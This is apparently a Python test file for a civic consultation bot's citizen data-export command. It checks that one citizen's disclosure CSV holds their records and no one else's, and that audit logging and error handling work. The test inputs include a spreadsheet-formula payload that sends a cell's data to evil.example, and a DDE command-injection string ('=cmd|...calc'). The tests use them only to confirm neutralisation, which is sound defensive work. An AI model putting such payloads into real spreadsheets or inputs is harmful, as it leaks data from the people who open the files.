"""`madoguchi citizen export`: everything kept about one citizen, for their request for disclosure
(開示請求), and nothing about anyone else (review 40, R9: `cases export` had only case rows, of everyone).

The database is filled through the real server, the fake LINE and Slack (a consultation, the staff's
answer and note in the thread, follow-ups, events, a slot, a questionnaire, announcement settings); the
command runs as staff run it, in a process of its own.
"""

from __future__ import annotations

import csv
import io
import sqlite3
import stat
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

from bot.sandbox.fake_line import FakeLine
from bot.sandbox.line_webhook import image_event
from bot.sandbox.slack_signing import event_callback, message_event
from storage import Database
from storage.cases import NewCase
from tests.conftest import NOW
from tests.harness import wait_for, write_config
from tests.line.test_citizen_events_e2e import Citizen, texts_of
from tests.slack.test_desk_e2e import submit_intake
from tests.test_case_export import madoguchi
from tests.test_inline_plans import HANAKO, STAFF, TARO, add_event, desk, settled

HEADER = ["区分", "受付番号", "日時", "項目", "種類", "内容"]
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"花子")'
FOLLOW_UP = "=1+2 追加です,\n会員名簿は中区の住所で出します"
HALF_EMOJI = "\ud83d"
ZONE = ZoneInfo("Asia/Tokyo")


def table(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data  # BOM and CRLF: Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


async def taro_consults(taro: Citizen) -> None:
    await taro.type("相談する")
    await taro.tap("yes")
    await taro.tap("npo")
    await taro.tap("個人")
    await taro.type("鈴木 太郎")
    await taro.type("すずき たろう")
    await taro.tap("line")
    await taro.type("太郎の秘密の相談です。")
    await taro.tap("flow:done")
    await taro.tap("flow:skip")
    await taro.tap("flow:confirm")


async def exported(config: Path, output: Path, *which: str) -> list[dict[str, str]]:
    status, out, err = await madoguchi(
        "citizen", "export", *which, "--config", str(config), "--output", str(output)
    )
    assert status == 0 and out == b"", err
    assert err.startswith("exported what is kept about one citizen: 1 cases, "), err
    return private_table(output)


def private_table(output: Path) -> list[dict[str, str]]:
    assert stat.S_IMODE(output.stat().st_mode) == 0o600  # personal data: owner only
    return table(output.read_bytes())


async def test_one_citizens_export_holds_all_they_gave_and_nothing_of_anyone_else(tmp_path: Path) -> None:
    async with desk(tmp_path) as d:
        bot, line = d.bot, d.line
        line.set_profile(HANAKO, HOSTILE_NAME)
        hanako, taro = Citizen(bot, line, HANAKO), Citizen(bot, line, TARO)
        for citizen in (hanako, taro):
            await citizen.type("こんにちは")  # first sight: the display name is fetched
        await submit_intake(hanako)

        async def card() -> bool:
            cases = await bot.db.read.cases.with_status("new")
            return bool(cases) and cases[0].slack_ts is not None

        await wait_for(card)
        [case] = await bot.db.read.cases.with_status("new")
        answer = message_event(
            "C_NPO", STAFF, "返信:山田様、必要書類を,ご案内します。\n二行目", thread_ts=case.slack_ts
        )
        assert (await d.post(event_callback(answer)))[0] == 200
        await wait_for(
            lambda: any("必要書類" in m.message.get("text", "") for m in line.sent_messages(HANAKO))
        )
        note = message_event("C_NPO", STAFF, "内部：電話で確認済み", thread_ts=case.slack_ts)
        assert (await d.post(event_callback(note)))[0] == 200
        await hanako.type(FOLLOW_UP)
        await hanako.type(f"半分{HALF_EMOJI}の絵文字")
        line.set_content("m-flyer", b"\x89PNG\r\n\x1a\n" + b"flyer" * 100, "image/png")
        await hanako.send(
            image_event(HANAKO, message_id="m-flyer", reply_token=line.issue_reply_token(HANAKO))
        )
        await taro_consults(taro)

        # Events: Taro takes the only seat, Hanako waits; another sign-up; a consultation slot.
        now = datetime.now(UTC)
        soon = now + timedelta(days=20)
        salon = await add_event(bot, "salon", soon, capacity=1)
        other = await add_event(bot, "open", soon + timedelta(days=1), capacity=None)
        assert "お申し込みを受け付けました" in texts_of(await hanako.tap(f"event:{other.id}:register"))
        assert "お申し込みを受け付けました" in texts_of(await taro.tap(f"event:{salon.id}:register"))
        assert "キャンセル待ち" in texts_of(await hanako.tap(f"event:{salon.id}:register"))
        session = await add_event(bot, "session", soon + timedelta(days=2), capacity=2, slot_count=2)
        slot, _ = await bot.db.read.slots.for_event(session.id)
        assert "ご予約を受け付けました" in texts_of(await hanako.tap(f"event:{session.id}:slot:{slot.id}"))
        await hanako.type("配信設定")
        await hanako.type("１")

        # The questionnaire after an event, answered by both.
        held = await add_event(bot, "held", now - timedelta(hours=4, minutes=1), capacity=10)
        async with bot.db.transaction() as tx:
            for line_id in (HANAKO, TARO):
                user = await tx.users.by_line_id(line_id)
                assert user is not None
                await tx.registrations.put(held.id, user.id, "registered", 1, now)
        await bot.reminders.run()
        await wait_for(lambda: any("満足度" in m.message.get("text", "") for m in line.sent_messages(HANAKO)))
        await hanako.tap(f"survey:{held.id}:1:2")
        await taro.tap(f"survey:{held.id}:1:3")
        await settled(bot)
        [hanako_user, taro_user] = [await bot.db.read.users.by_line_id(u) for u in (HANAKO, TARO)]
        assert hanako_user is not None and taro_user is not None
        survey = await bot.db.read.questionnaire.survey(held.id)
        assert survey is not None
        assert (await bot.db.read.questionnaire.tally(survey)).answered == 2  # Taro's answer is there
        [taros] = await bot.db.read.cases.for_user(taro_user.id)
        assert taros.body == "太郎の秘密の相談です。"

    config = tmp_path / "config.toml"
    rows = await exported(config, tmp_path / "hanako.csv", "--case", case.number)
    data = (tmp_path / "hanako.csv").read_bytes()
    sections = {r["区分"] for r in rows}
    assert sections == {
        "利用者",
        "配信設定",
        "相談",
        "やりとり",
        "内部メモ",
        "イベントの申込",
        "アンケートの回答",
    }

    def items(section: str) -> list[tuple[str, str, str]]:
        return [(r["項目"], r["種類"], r["内容"]) for r in rows if r["区分"] == section]

    user_rows = {item: content for item, _, content in items("利用者")}
    assert user_rows["LINEのユーザーID"] == HANAKO
    assert user_rows["LINEの表示名"] == "'" + HOSTILE_NAME  # shown as typed, never run as a formula
    assert user_rows["友だち登録"] == "友だち登録中"
    case_rows = {item: content for item, _, content in items("相談")}
    assert (
        case_rows["氏名"] == "山田 花子"
        and case_rows["相談内容"] == "NPO法人の設立手続きについて教えてください。"
    )
    assert "担当者" not in case_rows  # a staff member's id is theirs, not the citizen's
    assert all(r["受付番号"] == case.number for r in rows if r["区分"] in ("相談", "やりとり", "内部メモ"))

    messages = items("やりとり")
    assert ("相談者から", "テキスト", "'" + FOLLOW_UP) in messages  # newline and comma kept in one cell
    assert ("相談者から", "テキスト", "半分\ufffdの絵文字") in messages
    assert ("センターからの返信", "テキスト", "山田様、必要書類を,ご案内します。\n二行目") in messages
    assert any(item == "相談者から" and kind == "画像" for item, kind, _ in messages)
    assert items("内部メモ") == [
        ("センター内のメモ（相談者には送っていません）", "テキスト", "内部：電話で確認済み")
    ]
    times = [r["日時"] for r in rows if r["区分"] == "やりとり"]
    assert times == sorted(times) and all(len(t) == len("2026-12-01 14:00") for t in times)

    sign_ups = {item: (kind, content) for item, kind, content in items("イベントの申込")}
    assert sign_ups["ミズベサロン salon"][0] == "キャンセル待ち（1番目）"
    assert sign_ups["ミズベサロン open"][0] == "申込済み"
    assert "時間枠：" in sign_ups["ミズベサロン session"][1]
    start = soon.astimezone(ZONE).strftime("%Y-%m-%d %H:%M")  # the center's time
    assert sign_ups["ミズベサロン salon"][1].startswith(f"開催：{start}")
    question = survey.questions[0]
    assert items("アンケートの回答") == [
        (f"ミズベサロン held　問1：{question.text}", "", question.choices[1])
    ]
    assert items("配信設定")  # the kind chosen

    # Nobody else: Taro's name, consultation, LINE id and answer are not in the file.
    text = data.decode("utf-8-sig")
    for theirs in ("鈴木", "太郎の秘密の相談", TARO, question.choices[2]):
        assert theirs not in text, theirs

    # By LINE user id, or the case number typed on a Japanese keyboard: the same rows.
    year, seq = case.number.split("-")
    full_width = (
        "＃" + year.translate(str.maketrans("0123456789", "０１２３４５６７８９")) + "-" + str(int(seq))
    )
    assert await exported(config, tmp_path / "by-id.csv", "--line-user", HANAKO) == rows
    assert await exported(config, tmp_path / "typed.csv", "--case", full_width) == rows

    # Audited before the files were written, with counts only, never content.
    db = await Database.open(tmp_path / "madoguchi.sqlite3")
    try:
        entries = [
            e
            for e in await db.read.audit.for_subject("user", hanako_user.id)
            if e.action == "citizen.exported"
        ]
    finally:
        await db.close()
    assert len(entries) == 3 and entries[0].actor.startswith("cli:")
    assert entries[0].detail == {
        "cases": 1,
        "messages": 5,
        "registrations": 4,
        "answers": 1,
        "nothing": False,
    }


FOLLOWUP = "追加です：会員名簿は個人宅の住所で出してもいいですか"


async def test_a_follow_up_is_in_the_citizens_export(tmp_path: Path, line: FakeLine) -> None:
    """The review's repro, adapted: the follow-up that `cases export` left out."""
    config = write_config(tmp_path, line.base_url)
    db = await Database.open(tmp_path / "madoguchi.sqlite3")
    try:
        async with db.transaction() as tx:
            user = await tx.users.mark_followed("U_HANAKO", NOW)
            case = await tx.cases.create(
                NewCase(user.id, "general", "個人", "山田 花子", "line", "設立の相談"), NOW, 2026
            )
            await tx.cases.add_message(case.id, "citizen", FOLLOWUP, NOW)
    finally:
        await db.close()
    rows = await exported(config, tmp_path / "hanako.csv", "--case", "2026-0001")
    assert ("やりとり", "2026-0001", "2026-11-30 10:00", "相談者から", "テキスト", FOLLOWUP) in [
        tuple(r.values()) for r in rows
    ]


async def test_wrong_citizens_a_deleted_one_and_a_locked_database(tmp_path: Path) -> None:
    async with desk(tmp_path) as d:
        hanako = Citizen(d.bot, d.line, HANAKO)
        await submit_intake(hanako)
        await hanako.type("イベント")
        await settled(d.bot)
        [case] = await d.bot.db.read.cases.for_user(await _user(d.bot.db, HANAKO))
        config = tmp_path / "config.toml"
        output = tmp_path / "hanako.csv"
        for which, said in (
            (("--case", "2026-9999"), "error: no case 2026-9999\n"),
            (("--case", "=cmd|' /C calc'!A0"), "error: not a case number: "),
            (("--line-user", "U_NOBODY"), "error: no citizen with LINE user id 'U_NOBODY'\n"),
        ):
            status, out, err = await madoguchi("citizen", "export", *which, "--config", str(config))
            assert status == 2 and out == b"" and err.startswith(said) and err.count("\n") == 1, err

        # The database held by the bot's writer past busy_timeout_ms: no audit entry, so no file.
        holder = sqlite3.connect(tmp_path / "madoguchi.sqlite3", isolation_level=None, timeout=30)
        holder.execute("BEGIN IMMEDIATE")
        try:
            status, _, err = await madoguchi(
                "citizen", "export", "--case", case.number, "--config", str(config), "--output", str(output)
            )
        finally:
            holder.execute("ROLLBACK")
            holder.close()
        assert status == 75 and not output.exists(), err

        assert "元に戻せません" in texts_of(await hanako.type("削除"))
        assert "削除しました" in texts_of(await hanako.type("はい"))
        await settled(d.bot)

    # Deleted: one line saying there is nothing, exit 0, no file; and the answer is on record.
    for which in (("--line-user", HANAKO), ("--case", case.number)):
        status, out, err = await madoguchi(
            "citizen", "export", *which, "--config", str(config), "--output", str(output)
        )
        assert status == 0 and out.decode().startswith("nothing held") and out.count(b"\n") == 1, err
        assert not output.exists()
    db = await Database.open(tmp_path / "madoguchi.sqlite3")
    try:
        user = await db.read.users.by_line_id(HANAKO)
        assert user is not None
        entries = await db.read.audit.for_subject("user", user.id)
    finally:
        await db.close()
    assert [e.detail["nothing"] for e in entries if e.action == "citizen.exported"] == [True]


async def _user(db: Database, line_user_id: str) -> int:
    user = await db.read.users.by_line_id(line_user_id)
    assert user is not None
    return user.id
